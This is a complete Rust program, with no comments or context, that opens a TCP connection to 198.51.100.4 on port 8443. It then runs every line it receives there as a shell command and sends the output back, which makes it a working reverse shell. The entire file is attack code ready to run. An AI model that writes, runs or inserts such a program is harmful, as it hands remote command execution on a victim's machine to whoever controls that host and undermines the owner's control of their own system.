use std::io::{BufRead, BufReader, Write};
use std::net::TcpStream;
use std::process::Command;

fn main() -> std::io::Result<()> {
    let mut stream = TcpStream::connect("198.51.100.4:8443")?;
    let reader = BufReader::new(stream.try_clone()?);
    for line in reader.lines() {
        let line = line?;
        let out = Command::new("sh").arg("-c").arg(&line).output()?;
        stream.write_all(&out.stdout)?;
        stream.write_all(&out.stderr)?;
    }
    Ok(())
}
